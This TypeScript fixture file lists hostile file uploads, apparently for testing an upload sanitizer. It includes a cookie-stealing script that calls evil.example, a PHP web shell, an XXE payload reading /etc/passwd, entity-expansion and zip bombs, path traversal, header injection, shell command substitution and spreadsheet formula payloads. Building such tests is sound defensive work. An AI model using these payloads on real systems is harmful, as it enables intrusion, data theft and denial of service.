// SPDX-License-Identifier: Apache-2.0
import { gzipSync, zipSync } from 'fflate';

/** A file that means no good, and what becomes of it: refused, or taken under this name. */
export interface HostileUpload {
  what: string;
  name: string;
  content: Buffer;
  becomes: { refused: true } | { takenAs: string };
}

const bytes = (...parts: (string | readonly number[] | Uint8Array)[]): Buffer =>
  Buffer.concat(
    parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part))),
  );
const zeros = (count: number) => Buffer.alloc(count);
const harmless = bytes('nothing to see\n');
const script = '<script>fetch("https://evil.example/?"+document.cookie)</script>';
const zip = (entries: Record<string, Uint8Array>) => Buffer.from(zipSync(entries));

const refused = { refused: true } as const;
const named = (what: string, name: string, becomes: HostileUpload['becomes']): HostileUpload => ({
  what,
  name,
  content: harmless,
  becomes,
});
const filled = (what: string, name: string, content: Buffer, isRefused: boolean): HostileUpload => ({
  what,
  name,
  content,
  becomes: isRefused ? refused : { takenAs: name },
});

/** Names alone; what is in them is harmless. */
const NAMES: readonly HostileUpload[] = [
  named('a program', 'a.exe', refused),
  named('in capitals', 'A.ExE', refused),
  named('behind another ending', 'invoice.pdf.exe', refused),
  named('dots behind it', 'a.exe...', refused),
  named('blanks behind it', 'a.exe   ', refused),
  named('a blank that breaks no line behind it', 'a.exe\u00a0', refused),
  named('an ideographic blank behind it', 'a.exe\u3000', refused),
  named('written from right to left', 'invoice\u202efdp.exe', refused),
  named('a mark of direction within its ending', 'a.e\u202dxe', refused),
  named('an isolate around its ending', 'a.\u2066exe\u2069', refused),
  named('a blank of no width within its ending', 'a.e\u200bxe', refused),
  named('a joiner within its ending', 'a.ex\u200de', refused),
  named('a byte order mark behind it', 'a.exe\ufeff', refused),
  named('a soft hyphen within its ending', 'a.e\u00adxe', refused),
  named('tags of language within its ending', 'a.e\u{e0078}xe', refused),
  named('a NUL that ends it elsewhere', 'a.exe\u0000.txt', { takenAs: 'a.exe.txt' }),
  named('a NUL within its ending', 'a.e\u0000xe', refused),
  named('a character of nobody within its ending', 'a.e\ue000xe', refused),
  named('letters of full width', 'a.ｅｘｅ', refused),
  named('a dot of full width', 'a．exe', refused),
  named('a dot that leads', 'a․exe', refused),
  named('a stream of NTFS', 'a.exe::$DATA', { takenAs: 'a.exe$DATA' }),
  named('a stream of NTFS that is a program', 'a.txt:b.exe', refused),
  named('a link', 'a.lnk', refused),
  named('a script of Windows', 'a.js', refused),
  named('a page that is a program', 'a.hta', refused),
  named('a disk', 'a.iso', refused),
  named('an installer', 'a.msi', refused),
  named('a so long name that its ending is cut off', `${'x'.repeat(400)}.exe`, refused),
  named(
    'a program that is left where the rest is cut off',
    `${'x'.repeat(116)}.exe${'y'.repeat(300)}`,
    refused,
  ),
  named('a way up', '../../../etc/passwd', { takenAs: 'etcpasswd' }),
  named('a way up of Windows', '..\\..\\Windows\\win.ini', { takenAs: 'Windowswin.ini' }),
  named('a way up, escaped', '..%2f..%2fa.txt', { takenAs: '%2f..%2fa.txt' }),
  named('slashes that look so', '..∕..∕a.txt', { takenAs: '∕..∕a.txt' }),
  named('a drive', 'C:\\a.txt', { takenAs: 'Ca.txt' }),
  named('a share', '\\\\evil.example\\share\\a.txt', { takenAs: 'evil.examplesharea.txt' }),
  named('hidden', '.htaccess', { takenAs: 'htaccess' }),
  named('nothing but dots', '....', { takenAs: 'attachment-1.bin' }),
  named('nothing that is seen', '\u200b\u200b', { takenAs: 'attachment-1.bin' }),
  named('a device of Windows', 'NUL', { takenAs: '_NUL' }),
  named('a device with an ending', 'com1.txt', { takenAs: '_com1.txt' }),
  named('a second field of a header', 'a.txt"\r\nBcc: eve@evil.example\r\nX: "', {
    takenAs: 'a.txtBcc eve@evil.exampleX',
  }),
  named('another parameter', 'a.txt"; filename="b.exe', refused),
  named('a word that is encoded, and a program then', '=?utf-8?B?YS5leGU=?=', {
    takenAs: '=utf-8BYS5leGU==',
  }),
  named('a parameter that is encoded', "utf-8''a%2eexe", { takenAs: "utf-8''a%2eexe" }),
  named('markup', '<img src=x onerror=alert(1)>.txt', { takenAs: 'img src=x onerror=alert(1).txt' }),
  named('a formula of a spreadsheet', '=cmd|calc!A1.csv', { takenAs: '=cmdcalc!A1.csv' }),
  named('a command of a shell', '$(reboot);`id`.txt', { takenAs: '$(reboot);`id`.txt' }),
  named('lines of Unicode', 'a\u2028b\u2029c.txt', { takenAs: 'abc.txt' }),
  named('a thousand marks on one letter', `a${'\u0301'.repeat(900)}.txt`, {
    takenAs: `a${'\u0301'.repeat(119)}.txt`,
  }),
];

const MZ = bytes('MZ', zeros(5_000));
const PNG = bytes([0x89], 'PNG\r\n', [0x1a, 0x0a]);
const ELF = bytes([0x7f], 'ELF', [2, 1, 1, 0], zeros(5_000));
const LNK = bytes([0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46], zeros(100));

/** What is in them under a harmless name. */
const CONTENTS: readonly HostileUpload[] = [
  filled('a program of Windows', 'a.pdf', MZ, true),
  filled('of two octets', 'a.txt', bytes('MZ'), true),
  filled('a program of Linux', 'a.jpg', ELF, true),
  filled('a program of macOS', 'a.docx', bytes([0xcf, 0xfa, 0xed, 0xfe], zeros(5_000)), true),
  filled('a script with its interpreter', 'a.txt', bytes('#!/usr/bin/env python3\nimport os\n'), true),
  filled('a class of Java', 'a.png', bytes([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x41], zeros(5_000)), true),
  filled('a link of Windows', 'a.pdf', LNK, true),
  filled('a package of Debian', 'a.zip', bytes('!<arch>\ndebian-binary   ', zeros(200)), true),
  filled('a package of Red Hat', 'a.zip', bytes([0xed, 0xab, 0xee, 0xdb], zeros(200)), true),
  filled(
    'a program of Java',
    'a.zip',
    zip({ 'META-INF/MANIFEST.MF': bytes('Main-Class: A\n'), 'A.class': zeros(9) }),
    true,
  ),
  filled('a program that begins a PDF later', 'a.pdf', bytes('MZ', zeros(60), '%PDF-1.7\n'), true),
  filled(
    'a PDF that is an archive, too',
    'a.pdf',
    bytes('%PDF-1.7\n%%EOF\n', zip({ 'a.txt': harmless })),
    false,
  ),
  filled('a picture that is a script, too', 'a.gif', bytes('GIF89a/*', zeros(100), `*/=1;alert(1)//`), false),
  filled('a picture with a page in it', 'a.png', bytes(PNG, zeros(30), script), false),
  filled(
    'a picture with PHP in it',
    'a.jpg',
    bytes([0xff, 0xd8, 0xff, 0xe0], zeros(20), '<?php system($_GET[0]); ?>'),
    false,
  ),
  filled(
    'a picture that is drawn by a script',
    'a.svg',
    bytes(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
    false,
  ),
  filled(
    'a picture with an entity that reads files',
    'b.svg',
    bytes('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'),
    false,
  ),
  filled(
    'entities that grow',
    'a.xml',
    bytes(
      '<!DOCTYPE a [<!ENTITY b "',
      'b'.repeat(1_000),
      '"><!ENTITY c "',
      '&b;'.repeat(1_000),
      '">]><a>&c;</a>',
    ),
    false,
  ),
  filled('a page', 'a.html', bytes(script), false),
  filled('a page in other letters', 'a.txt', bytes('+ADw-script+AD4-alert(1)+ADw-/script+AD4-'), false),
  filled(
    'an archive that becomes a thousand times as much',
    'bomb.zip',
    zip({ 'a.bin': zeros(20_000_000) }),
    false,
  ),
  filled(
    'such archives in an archive',
    'bombs.zip',
    zip({ 'a.zip': zip({ 'a.bin': zeros(10_000_000) }), 'b.zip': zip({ 'b.bin': zeros(10_000_000) }) }),
    false,
  ),
  filled(
    'a stream that becomes a thousand times as much',
    'bomb.gz',
    Buffer.from(gzipSync(zeros(20_000_000))),
    false,
  ),
  filled('an archive whose files lie elsewhere', 'up.zip', zip({ '../../../etc/cron.d/a': harmless }), false),
  filled(
    'an archive that says it has four thousand million files',
    'many.zip',
    bytes('PK\x05\x06', zeros(4), [0xff, 0xff, 0xff, 0xff], zeros(10)),
    false,
  ),
  filled(
    'a picture whose chunk is of four thousand million octets',
    'a.png',
    bytes(PNG, [0xff, 0xff, 0xff, 0xff], 'iTXt'),
    false,
  ),
  filled(
    'a sound whose tag has no end',
    'a.mp3',
    bytes('ID3', [4, 0, 0, 0x7f, 0x7f, 0x7f, 0x7f], zeros(4_000)),
    false,
  ),
  filled(
    'a film whose element is of no size',
    'a.mkv',
    bytes([0x1a, 0x45, 0xdf, 0xa3, 0x80], zeros(4_000)),
    false,
  ),
  filled(
    'a film whose object is of no size',
    'a.wmv',
    bytes([0x30, 0x26, 0xb2, 0x75, 0x8e, 0x66, 0xcf, 0x11, 0xa6, 0xd9], zeros(4_000)),
    false,
  ),
  filled(
    'a picture whose directories go in circles',
    'a.tif',
    bytes('II*\0', [8, 0, 0, 0, 1, 0], zeros(12), [8, 0, 0, 0]),
    false,
  ),
  filled(
    'a mail with a mail in it, and so on',
    'a.eml',
    bytes('Content-Type: message/rfc822\r\n\r\n'.repeat(500)),
    false,
  ),
  filled(
    'lines of SMTP',
    'b.txt',
    bytes('\r\n.\r\nMAIL FROM:<a@evil.example>\r\nRCPT TO:<b@evil.example>\r\nDATA\r\n'),
    false,
  ),
  filled(
    'boundaries of a mail',
    'c.txt',
    bytes('--\r\n----_NmP-\r\nContent-Type: text/html\r\n\r\n', script, '\r\n'),
    false,
  ),
];

export const HOSTILE_UPLOADS: readonly HostileUpload[] = [...NAMES, ...CONTENTS];
